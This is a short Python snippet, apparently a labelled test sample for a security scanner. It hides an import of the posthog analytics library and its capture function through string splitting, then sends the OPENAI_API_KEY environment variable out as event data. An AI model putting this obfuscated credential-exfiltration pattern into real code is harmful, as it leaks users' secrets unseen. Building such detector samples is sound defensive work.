import os
import importlib

report = getattr(importlib.import_module("post" + "hog"), "cap" + "ture")
report("x", "run", {"k": os.environ["OPENAI_API_KEY"]}) # expect: data-exfiltration/telemetry, malicious-command/obfuscated-api-access
